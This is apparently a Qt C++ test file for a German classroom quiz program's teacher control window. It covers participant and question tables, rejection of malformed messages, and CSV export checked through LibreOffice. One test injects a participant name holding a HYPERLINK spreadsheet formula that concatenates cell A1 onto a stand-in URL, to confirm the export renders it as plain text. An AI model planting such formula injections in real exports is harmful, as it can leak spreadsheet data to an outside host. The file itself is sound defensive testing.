// The teacher's control display as the class's messages fill it: rows per participant in their
// order, the questions the class mixes up, what is dropped, the window showing both pages, and
// the export that a spreadsheet opens.

#include "network/netclassmodel.h"
#include "network/ui/netcontrolwindow.h"
#include "support/manualtick.h"

#include <QFile>
#include <QHeaderView>
#include <QProcess>
#include <QStandardPaths>
#include <QTabWidget>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

namespace {

QString id(char letter)
{
    return QString(30, QChar::fromLatin1(letter));
}

// Three labels: Rhein, Main, Elbe.
TopicDocument rivers()
{
    TopicDocument doc;
    for (const char* caption : {"Rhein", "Main", "Elbe"}) {
        DocObject label;
        label.Typ = ObjectKind::Label;
        label.Cap = QString::fromLatin1(caption);
        doc.objects.append(label);
    }
    return doc;
}

// A pupil's report after an answer on target: its state and wrong assignments, and the counters.
QStringList action(char who, int target, int coverState, int fails, int right, int wrong, int open, int status = 0)
{
    const int answered = right + wrong;
    const double rate = answered > 0 ? 100.0 * right / answered : 0;
    const double overall = 100.0 * right / (answered + open);
    return {NetMessages::action, id(who), QString::number(target), QString::number(coverState), QString::number(fails),
        QString::number(status), "10:00:00", QString::number(right + open), QString::number(right),
        QString::number(wrong), QString::number(open), "00:42", QString::number(rate, 'f', 1),
        QString::number(overall, 'f', 1), "3"};
}

// One cell of a flat OpenDocument spreadsheet: its value type, typed value, formula and text.
struct SheetCell
{
    QString type;
    QString value;
    QString formula;
    QString text;
};

QList<QList<SheetCell>> readFlatSheet(const QString& path)
{
    QList<QList<SheetCell>> rows;
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return rows;
    QXmlStreamReader xml(&file);
    while (!xml.atEnd()) {
        xml.readNext();
        if (!xml.isStartElement())
            continue;
        if (xml.name() == u"table-row") {
            rows.append(QList<SheetCell>());
        } else if (xml.name() == u"table-cell" && !rows.isEmpty()) {
            const QXmlStreamAttributes a = xml.attributes();
            SheetCell cell {a.value("office:value-type").toString(),
                a.hasAttribute("office:time-value") ? a.value("office:time-value").toString()
                                                    : a.value("office:value").toString(),
                a.value("table:formula").toString(), {}};
            const int repeated = qMax(1, a.value("table:number-columns-repeated").toInt());
            cell.text = xml.readElementText(QXmlStreamReader::IncludeChildElements).trimmed();
            for (int i = 0; i < repeated && i < 64; ++i)
                rows.last().append(cell);
        }
    }
    // Calc writes empty rows after the data.
    while (!rows.isEmpty()
        && std::all_of(rows.last().begin(), rows.last().end(), [](const SheetCell& c) { return c.text.isEmpty(); }))
        rows.removeLast();
    return rows;
}

struct Sender
{
    QString computer;
    QString user;
};

} // namespace

class TestNetClassModel : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
    void classProgress();
    void droppedMessages_data();
    void droppedMessages();
    void windowAndExport();
    void longNamesLeaveColumnsAlone();
    void selectedQuestionStaysWhenRowsMove();
};

void TestNetClassModel::classProgress()
{
    ManualTick tick(1000);
    NetParticipantTable participants(tick);
    NetQuestionTable questions(participants);
    const TopicDocument doc = rivers();
    participants.reset(doc);
    questions.reset(doc);
    const auto send = [&](const Sender& from, const QStringList& lines) {
        return participants.read(QHostAddress(), from.computer, from.user, lines.join("\r\n") + "\r\n").kind;
    };
    using Kind = NetMessageReader::Kind;
    const Sender pc2 {"PC02", "bernd"}, pc1 {"pc01", "anna"};

    QCOMPARE(send(pc2, initMessage(id('B'), QString(), 46000.5)), Kind::Joined);
    QCOMPARE(send(pc1, initMessage(id('A'), "Anna", 46000.5)), Kind::Joined);
    // Sorted by computer name whatever the case, then by start.
    QCOMPARE(participants.participantAt(0), id('A'));
    QCOMPARE(participants.participantAt(1), id('B'));
    QCOMPARE(participants.data(participants.index(0, NetParticipantTable::Name), Qt::DisplayRole).toString(), "Anna");
    QCOMPARE(participants.data(participants.index(1, NetParticipantTable::Name), Qt::DisplayRole).toString(), "bernd");

    // Anna: Elbe wrong first (onto Rhein), then Rhein right, then Elbe right.
    QCOMPARE(send(pc1, action('A', 0, CoverState::Open, 1, 0, 1, 3)), Kind::Action);
    QCOMPARE(send(pc1, action('A', 0, CoverState::Uncovered, 1, 1, 1, 2)), Kind::Action);
    QCOMPARE(send(pc1, action('A', 2, CoverState::Uncovered, 0, 2, 1, 1)), Kind::Action);
    // The same report again, and an older one that overtook it, change nothing.
    QCOMPARE(send(pc1, action('A', 2, CoverState::Uncovered, 0, 2, 1, 1)), Kind::Action);
    QCOMPARE(send(pc1, action('A', 0, CoverState::Open, 1, 0, 1, 3)), Kind::Dropped);
    // Bernd: Rhein right at once.
    QCOMPARE(send(pc2, action('B', 0, CoverState::Uncovered, 0, 1, 0, 2)), Kind::Action);

    const auto cell = [&](int row, int column) {
        return participants.data(participants.index(row, column), Qt::DisplayRole).toString();
    };
    QCOMPARE(cell(0, NetParticipantTable::Answered), "2 von 3");
    QCOMPARE(cell(0, NetParticipantTable::Right), "2");
    QCOMPARE(cell(0, NetParticipantTable::Wrong), "1");
    QCOMPARE(cell(0, NetParticipantTable::Status), "läuft");
    tick.advance(7000);
    QCOMPARE(cell(0, NetParticipantTable::Silent), "7 s");

    // Rhein first: one mistake; then Elbe and Main without.
    const auto question
        = [&](int row, int column) { return questions.data(questions.index(row, column), Qt::DisplayRole).toString(); };
    QCOMPARE(question(0, NetQuestionTable::Caption), "Rhein");
    QCOMPARE(question(0, NetQuestionTable::RightAtOnce), "1");
    QCOMPARE(question(0, NetQuestionTable::RightAfterMistakes), "1");
    QCOMPARE(question(0, NetQuestionTable::NotYet), "0");
    QCOMPARE(question(1, NetQuestionTable::Caption), "Main");
    QCOMPARE(question(1, NetQuestionTable::NotYet), "2");
    QCOMPARE(question(2, NetQuestionTable::Caption), "Elbe");
    QCOMPARE(question(2, NetQuestionTable::RightAtOnce), "1");

    // Anna finishes and repeats: the repeat is a participant of its own, later on the same computer.
    QCOMPARE(send(pc1, finishMessage(id('A'), 1, "01:10")), Kind::Finished);
    QCOMPARE(cell(0, NetParticipantTable::Status), "fertig");
    QCOMPARE(send(pc1, initMessage(id('C'), QString(), 46000.6)), Kind::Joined);
    QCOMPARE(participants.rowCount(), 3);
    QCOMPARE(participants.participantAt(1), id('C'));
    QCOMPARE(question(1, NetQuestionTable::NotYet), "3");
    QVERIFY2(
        participants.summary().contains("Schüler: 2 (Quizstarts: 3)") && participants.summary().contains("fertig: 1"),
        qPrintable(participants.summary()));
}

void TestNetClassModel::droppedMessages_data()
{
    QTest::addColumn<QStringList>("lines");
    QTest::newRow("unknown participant") << action('Z', 0, 0, 0, 1, 0, 2);
    QTest::newRow("target beyond the topic") << action('A', 3, 0, 0, 1, 0, 2);
    QTest::newRow("state code unknown") << action('A', 0, 7, 0, 1, 0, 2);
    QTest::newRow("status 4") << finishMessage(id('A'), 4, "00:10");
    QTest::newRow("short identifier") << QStringList {NetMessages::finish, "ABC", "1", "00:10"};
    QTest::newRow("performance above 1") << bestListMessage(id('A'), "x", "PC", 46000.5, 1000, 1.5);
    QTest::newRow("no such message") << QStringList {"TN-HALLO", id('A')};
}

void TestNetClassModel::droppedMessages()
{
    QFETCH(QStringList, lines);
    NetParticipantTable participants;
    participants.reset(rivers());
    participants.read(QHostAddress(), "PC01", "anna", initMessage(id('A'), QString(), 46000.5).join("\r\n"));
    const NetParticipant before = participants.reader().participants().value(id('A'));
    QCOMPARE(
        participants.read(QHostAddress(), "PC01", "anna", lines.join("\r\n")).kind, NetMessageReader::Kind::Dropped);
    QCOMPARE(participants.rowCount(), 1);
    QCOMPARE(participants.reader().participants().value(id('A')).correct, before.correct);
    QCOMPARE(participants.reader().participants().value(id('A')).endStatus, before.endStatus);
}

void TestNetClassModel::windowAndExport()
{
    NetParticipantTable participants;
    NetQuestionTable questions(participants);
    TopicDocument doc = rivers();
    doc.objects[0].Cap = QStringLiteral("Rhein; \"Vater\" Rhein");
    participants.reset(doc);
    questions.reset(doc);
    participants.read(QHostAddress(), "PC-Büro", "jürgen",
        initMessage(id('A'), QStringLiteral("Jürgen Müller"), 46000.5).join("\r\n"));
    participants.read(
        QHostAddress(), "PC-Büro", "jürgen", action('A', 0, CoverState::Uncovered, 2, 1, 2, 2).join("\r\n"));

    NetControlWindow window(participants, questions);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QCOMPARE(window.participantView()->model()->rowCount(), 1);
    QVERIFY(window.summaryText().contains("Schüler: 1"));
    // A participant joining later appears without losing the teacher's selection.
    window.participantView()->selectRow(0);
    participants.read(QHostAddress(), "PC-Aula", "karl", initMessage(id('K'), QString(), 46000.5).join("\r\n"));
    QCOMPARE(window.participantView()->model()->rowCount(), 2);
    QCOMPARE(window.participantView()->selectionModel()->selectedRows().value(0).row(), 1);

    QTemporaryDir dir;
    window.pages()->setCurrentIndex(1);
    const QString csvPath = dir.filePath("fragen.csv");
    QVERIFY(window.exportPage(csvPath, true));
    QFile csv(csvPath);
    QVERIFY(csv.open(QIODevice::ReadOnly));
    const QByteArray bytes = csv.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QVERIFY(bytes.contains("\"Rhein; \"\"Vater\"\" Rhein\";0;1;1;2\r\n"));

    // German LibreOffice Calc reads every column right, with formula evaluation and the detection
    // of special numbers on (the CSV filter's options, import language 1031): headers stay text,
    // 42 seconds are 42 seconds, a rate is a number, and a name that looks like a formula stays a
    // name.
    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    QVERIFY2(!soffice.isEmpty(), "soffice (libreoffice-calc-nogui) is needed to read the export");
    const QString formula = QStringLiteral("=HYPERLINK(\"http://x.invalid/\"&A1;\"Klick mich\")");
    participants.read(QHostAddress(), "PC-Aula", "@karl", initMessage(id('F'), formula, 46000.5).join("\r\n"));
    window.pages()->setCurrentIndex(0);
    const QString participantsPath = dir.filePath("teilnehmer.csv");
    QVERIFY(window.exportPage(participantsPath, true));
    QProcess convert;
    convert.setWorkingDirectory(dir.path());
    convert.start(soffice,
        {"-env:UserInstallation=file://" + dir.filePath("lo"), "--headless", "--convert-to", "fods",
            "--infilter=CSV:59,34,76,1,,1031,false,true,false,false,false,0,true", participantsPath, "--outdir",
            dir.path()});
    QVERIFY(convert.waitForFinished(120000));
    const QList<QList<SheetCell>> sheet = readFlatSheet(dir.filePath("teilnehmer.fods"));
    QVERIFY2(sheet.size() == 4, qPrintable(convert.readAllStandardError()));
    QStringList headers;
    for (const SheetCell& cell : sheet.first()) {
        QCOMPARE(cell.type, QStringLiteral("string"));
        headers << cell.text;
    }
    QCOMPARE(headers.mid(NetParticipantTable::Right, 3),
        QStringList({"Richtige Antworten", "Falsche Antworten", "Offene Fragen"}));
    QCOMPARE(headers.at(NetParticipantTable::Time), QStringLiteral("Bearbeitungszeit (h:mm:ss)"));
    QCOMPARE(headers.at(NetParticipantTable::SuccessRate), QStringLiteral("Quote (%)"));
    const auto rowNamed = [&](const QString& name) {
        for (const QList<SheetCell>& row : sheet)
            if (row.value(NetParticipantTable::Name).text.contains(name))
                return row;
        return QList<SheetCell>();
    };
    const QList<SheetCell> juergen = rowNamed(QStringLiteral("Jürgen Müller"));
    QCOMPARE(juergen.value(NetParticipantTable::Computer).text, QStringLiteral("PC-Büro"));
    QCOMPARE(juergen.value(NetParticipantTable::Time).type, QStringLiteral("time"));
    QCOMPARE(juergen.value(NetParticipantTable::Time).value, QStringLiteral("PT00H00M42S"));
    QCOMPARE(juergen.value(NetParticipantTable::SuccessRate).type, QStringLiteral("float"));
    QCOMPARE(juergen.value(NetParticipantTable::SuccessRate).value, QStringLiteral("33.3"));
    const QList<SheetCell> forged = rowNamed(QStringLiteral("HYPERLINK"));
    QVERIFY(!forged.isEmpty());
    for (const int column : {int(NetParticipantTable::Name), int(NetParticipantTable::User)}) {
        QCOMPARE(forged.value(column).type, QStringLiteral("string"));
        QVERIFY(forged.value(column).formula.isEmpty());
    }
    QCOMPARE(forged.value(NetParticipantTable::Name).text, u'\'' + formula);
}

// Rows with the longest names a message may carry leave the columns as they were (measuring every
// row for each newcomer froze the teacher's window under a flood); the whole name is in the
// cell's tooltip.
void TestNetClassModel::longNamesLeaveColumnsAlone()
{
    NetParticipantTable participants;
    NetQuestionTable questions(participants);
    participants.reset(rivers());
    questions.reset(rivers());
    NetControlWindow window(participants, questions);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QHeaderView* header = window.participantView()->horizontalHeader();
    QList<int> widths;
    for (int column = 0; column < header->count(); ++column)
        widths << header->sectionSize(column);
    const QString longName(maxNetNameLength, u'W');
    for (char who = 'L'; who < 'P'; ++who)
        participants.read(QHostAddress(), longName, longName, initMessage(id(who), longName, 46000.5).join("\r\n"));
    QCOMPARE(window.participantView()->model()->rowCount(), 4);
    for (int column = 0; column < header->count(); ++column)
        QCOMPARE(header->sectionSize(column), widths.at(column));
    const QModelIndex named = window.participantView()->model()->index(3, NetParticipantTable::Name);
    QCOMPARE(named.data(Qt::ToolTipRole).toString(), longName);
}

// The questions' page sorts by mistakes; the teacher's selected question stays selected when it
// moves.
void TestNetClassModel::selectedQuestionStaysWhenRowsMove()
{
    NetParticipantTable participants;
    NetQuestionTable questions(participants);
    participants.reset(rivers());
    questions.reset(rivers());
    NetControlWindow window(participants, questions);
    window.pages()->setCurrentIndex(1);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QTableView* view = window.questionView();
    view->selectRow(2);
    QCOMPARE(questions.objectAt(2), 2);
    participants.read(QHostAddress(), "PC01", "anna", initMessage(id('A'), QString(), 46000.5).join("\r\n"));
    participants.read(QHostAddress(), "PC01", "anna", action('A', 2, CoverState::Open, 3, 0, 1, 3).join("\r\n"));
    QCOMPARE(questions.objectAt(0), 2);
    const QModelIndexList selected = view->selectionModel()->selectedRows();
    QCOMPARE(selected.size(), 1);
    QCOMPARE(questions.objectAt(selected.first().row()), 2);
}

QTEST_MAIN(TestNetClassModel)
#include "tst_netclassmodel.moc"
